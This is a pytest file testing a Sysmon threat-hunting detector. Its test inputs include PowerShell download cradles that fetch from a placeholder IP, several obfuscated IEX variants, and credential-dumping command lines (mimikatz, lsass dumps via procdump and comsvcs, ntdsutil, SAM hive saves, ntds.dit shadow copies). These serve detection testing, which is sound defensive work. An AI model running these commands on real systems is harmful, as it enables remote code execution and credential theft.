"""The sysmon-hunt use case's pure functions: reading OTRF and Winlogbeat events into one shape,
decoding PowerShell, each signal's recogniser, the join's measure and the score. Spark runs them
in `bin/datashark test conf/sysmon-hunt` (conf/sysmon-hunt/tests/)."""

from __future__ import annotations

import base64
from datetime import datetime, timezone
from pathlib import Path
from types import ModuleType

import pytest

from datashark.loading.codeimport import import_file, unique_module_name

REPO = Path(__file__).resolve().parents[2]
FOLDER = REPO / "conf" / "sysmon-hunt"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
WHEN = "2025-03-03T10:00:00.000Z"


@pytest.fixture(scope="module")
def hunt() -> ModuleType:
    path = FOLDER / "sysmon-hunt.py"
    return import_file(path, unique_module_name("sysmon_hunt_unit", path))


@pytest.fixture(scope="module")
def settings(hunt: ModuleType):
    return hunt.Settings.from_conf({})


def flat(event_id: int, channel: str = SYSMON, **fields) -> dict:
    return {
        "EventID": event_id,
        "Channel": channel,
        "Hostname": "WS01.corp.example",
        "@timestamp": WHEN,
        **fields,
    }


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


# ----------------------------------------------------------------------------- both shapes


def test_otrf_flat_and_winlogbeat_nested_and_dotted_read_alike(hunt: ModuleType, settings) -> None:
    fields = {"SourceImage": r"C:\Users\Public\x.exe", "TargetImage": r"C:\Windows\system32\lsass.exe"}
    fields["GrantedAccess"] = "0x1010"
    nested = {
        "@timestamp": WHEN,
        "host": {"name": "WS01.corp.example"},
        "winlog": {"event_id": 10, "channel": SYSMON, "event_data": fields},
    }
    dotted = {
        "@timestamp": WHEN,
        "winlog.computer_name": "WS01",
        "winlog.event_id": "10",
        "winlog.channel": SYSMON,
    }
    dotted.update({f"winlog.event_data.{key}": value for key, value in fields.items()})
    found = [hunt.normalised(settings, event) for event in (flat(10, **fields), nested, dotted)]
    assert [[(r["host"], r["part"], r["sample"]) for r in records] for records in found] == [
        [("ws01", "lsass_access", r"C:\Users\Public\x.exe -> lsass.exe 0x1010")]
    ] * 3
    assert found[0][0]["@timestamp"] == datetime(2025, 3, 3, 10, tzinfo=timezone.utc)


def test_otrf_2022_records_use_computer_and_time_created(hunt: ModuleType, settings) -> None:
    event = flat(8, SourceImage=r"C:\a\p.exe", TargetImage=r"C:\Windows\notepad.exe")
    del event["Hostname"], event["@timestamp"]
    event.update(Computer="WORKSTATION6.mssentinel.local", TimeCreated="2022-09-22T12:31:21.555Z")
    (record,) = hunt.normalised(settings, event)
    assert record["host"] == "workstation6"
    assert record["@timestamp"].isoformat() == "2022-09-22T12:31:21.555000+00:00"


def test_other_events_and_channels_stop_early(hunt: ModuleType, settings) -> None:
    assert hunt.record_of(flat(7)) is None  # image load
    assert hunt.record_of(flat(10, channel="System")) is None  # not Sysmon's 10
    assert hunt.record_of(flat(4688, channel=SYSMON)) is None
    assert hunt.record_of({"message": "no event"}) is None


@pytest.mark.parametrize(
    ("raw", "expected"),
    [("0x3E7A1F", "0x3e7a1f"), ("0x3e7a1f", "0x3e7a1f"), (4094495, "0x3e7a1f"), ("-", None)],
)
def test_logon_ids_in_one_spelling(hunt: ModuleType, raw, expected) -> None:
    assert hunt.logon_id(raw) == expected


# ----------------------------------------------------------------------------- PowerShell


@pytest.mark.parametrize("switch", ["-e", "-ec", "-enc", "-EncodedCommand", "-ENCODEDC", "/enc"])
def test_encoded_command_abbreviations_are_decoded(hunt: ModuleType, switch: str) -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
    ((signal, detail),) = hunt.powershell_findings(f"powershell.exe -nop {switch} {encoded(script)}")
    assert signal == "encoded_powershell"
    assert detail == f"[download_cradle] {script}"


def test_execution_policy_is_no_encoded_command(hunt: ModuleType) -> None:
    assert hunt.powershell_findings("powershell.exe -ExecutionPolicy Bypass -File C:\\s\\inventory.ps1") == ()


@pytest.mark.parametrize(
    ("command_line", "trick"),
    [
        ("powershell -nop -w hidden -c Get-Date", "hidden_noprofile"),
        ("powershell -NoProfile -WindowStyle Hidden -File x.ps1", "hidden_noprofile"),
        ("powershell IEX (iwr http://192.0.2.1/a -UseBasicParsing)", "download_cradle"),
        (
            "powershell [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgA'))",
            "frombase64string",
        ),
        ("powershell &([char]105+[char]101+[char]120) 'x'", "char_join"),
        ("powershell I`E`X (n`e`w-object Net.WebClient)", "tick_obfuscation"),
        ("powershell $a='Ne'+'w-Ob'+'ject'+' Net.'+'WebClient'", "string_concatenation"),
    ],
)
def test_obfuscation_tricks(hunt: ModuleType, command_line: str, trick: str) -> None:
    assert trick in hunt.obfuscation_of(command_line)


def test_payloads_that_are_no_script(hunt: ModuleType) -> None:
    assert hunt.powershell_findings("powershell -enc ####notbase64#### ") == ()  # no base64 argument
    assert hunt.decoded_powershell("QUJDREVGR0g=") is None  # ASCII, not UTF-16LE
    ((signal, detail),) = hunt.powershell_findings("powershell -enc QUJDREVGR0hJSktM")
    assert (signal, detail) == ("encoded_powershell", "(not UTF-16LE base64)")


# ----------------------------------------------------------------------------- process signals


@pytest.mark.parametrize(
    ("command_line", "rule"),
    [
        ('mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "mimikatz_command"),
        ("procdump64.exe -accepteula -ma lsass.exe C:\\t\\l.dmp", "procdump_lsass"),
        (
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full",
            "comsvcs_minidump",
        ),
        ("rundll32 comsvcs.dll #24 624 l.dmp full", "comsvcs_minidump"),
        ('ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', "ntdsutil_ifm"),
        ("reg save HKLM\\SAM C:\\t\\sam.save", "registry_hive_save"),
        (
            "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\windows\\ntds\\ntds.dit C:\\t",
            "shadow_copy_ntds",
        ),
        ("C:\\t\\Rubeus.exe asktgt /user:x", "dumping_tool_name"),
    ],
)
def test_credential_dumping_command_lines(hunt: ModuleType, command_line: str, rule: str) -> None:
    assert hunt.dumping_rule(command_line)[0] == rule


@pytest.mark.parametrize(
    "command_line", ["reg query HKLM\\SYSTEM\\x", "procdump -ma notepad.exe", "net user"]
)
def test_ordinary_command_lines_are_no_dumping(hunt: ModuleType, command_line: str) -> None:
    assert hunt.dumping_rule(command_line) is None


def test_renamed_mimikatz_by_original_file_name(hunt: ModuleType, settings) -> None:
    event = flat(1, Image=r"C:\Users\Public\svc.exe", OriginalFileName="mimikatz.exe", CommandLine="svc.exe")
    assert [r["part"] for r in hunt.normalised(settings, event)] == ["credential_dumping"]


def test_office_and_browser_children(hunt: ModuleType, settings) -> None:
    office = flat(
        1, Image=r"C:\Windows\System32\cmd.exe", ParentImage=r"C:\Office16\EXCEL.EXE", CommandLine="cmd /c x"
    )
    native = flat(
        1,
        Image=r"C:\Windows\System32\cmd.exe",
        ParentImage=r"C:\Chrome\chrome.exe",
        CommandLine='cmd.exe /d /c "host.bat" chrome-extension://abc/',
    )
    dropper = flat(
        1, Image=r"C:\Windows\System32\mshta.exe", ParentImage=r"C:\Chrome\chrome.exe", CommandLine="mshta x"
    )
    assert [r["part"] for r in hunt.normalised(settings, office)] == ["office_child_shell"]
    assert hunt.normalised(settings, native) == []
    assert [r["part"] for r in hunt.normalised(settings, dropper)] == ["browser_child_shell"]


def test_lsass_readers_allowlist_and_masks(hunt: ModuleType, settings) -> None:
    def read(source: str, mask: str) -> list:
        return hunt.normalised(
            settings, flat(10, SourceImage=source, TargetImage=r"C:\W\lsass.exe", GrantedAccess=mask)
        )

    defender = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MsMpEng.exe"
    assert read(defender, "0x1410") == []
    assert read(r"C:\Users\x\MsMpEng.exe", "0x1410") != []  # the name alone is not Defender
    assert read(r"C:\Users\x\tool.exe", "0x1000") == []  # query only, no memory read
    assert read(r"C:\Users\x\tool.exe", "0x1FFFFF") != []


def test_injection_pairs(hunt: ModuleType, settings) -> None:
    assert hunt.allowed_injection(
        r"C:\Windows\System32\csrss.exe", r"C:\x\app.exe", settings.injection_allowed
    )
    assert not hunt.allowed_injection(r"C:\x\powershell.exe", r"C:\W\notepad.exe", settings.injection_allowed)


def test_remote_logon_filters(hunt: ModuleType, settings) -> None:
    def logon(user: str, kind: str = "3") -> list:
        event = flat(
            4624, "Security", LogonType=kind, TargetUserName=user, TargetLogonId="0x10", IpAddress="10.0.0.5"
        )
        return hunt.normalised(settings, event)

    assert [r["logon_id"] for r in logon("admin")] == ["0x10"]
    assert logon("WS07$") == [] and logon("ANONYMOUS LOGON") == [] and logon("admin", "2") == []


# ----------------------------------------------------------------------------- the join and the score


def test_remote_sessions_join_in_any_order(hunt: ModuleType, settings) -> None:
    logon = hunt.normalised(
        settings,
        flat(
            4624, "Security", LogonType="3", TargetUserName="eve", TargetDomainName="C", TargetLogonId="0xAB"
        ),
    )
    process = hunt.normalised(
        settings,
        flat(
            1, Image=r"C:\W\cmd.exe", ParentImage=r"C:\W\wbem\WmiPrvSE.exe", CommandLine="cmd", LogonId="0xab"
        ),
    )
    other = hunt.normalised(settings, flat(1, Image=r"C:\W\x.exe", CommandLine="x", LogonId="0xcd"))
    measure = hunt.remote_sessions(3)
    a = measure.add(measure.start(), process[0])
    b = measure.add(measure.add(measure.start(), other[0]), logon[0])
    (session,) = measure.result(measure.merge(a, b))
    assert (session["logon_id"], session["user"], session["processes"]) == ("0xab", "C\\eve", 1)
    assert hunt.remote_techniques([(r"C:\W\cmd.exe", r"C:\W\wbem\WmiPrvSE.exe")]) == {"T1021", "T1047"}


def test_scores(hunt: ModuleType, settings) -> None:
    assert hunt.score_of({"lsass_access": 1}, settings) == 80.0
    assert hunt.score_of({"lsass_access": 20}, settings) == 90.0
    assert hunt.score_of({"remote_execution": 1, "encoded_powershell": 1}, settings) == 75.0
    assert hunt.score_of({"obfuscated_powershell": 1}, settings) == 55.0


def test_bad_settings_name_the_key(hunt: ModuleType) -> None:
    with pytest.raises(ValueError, match="lsass_access_masks"):
        hunt.Settings.from_conf({"lsass_access_masks": "full"})
    with pytest.raises(ValueError, match="window_minutes"):
        hunt.Settings.from_conf({"window_minutes": "0"})
    with pytest.raises(ValueError, match="injection_allowed"):
        hunt.Settings.from_conf({"injection_allowed": "csrss.exe"})
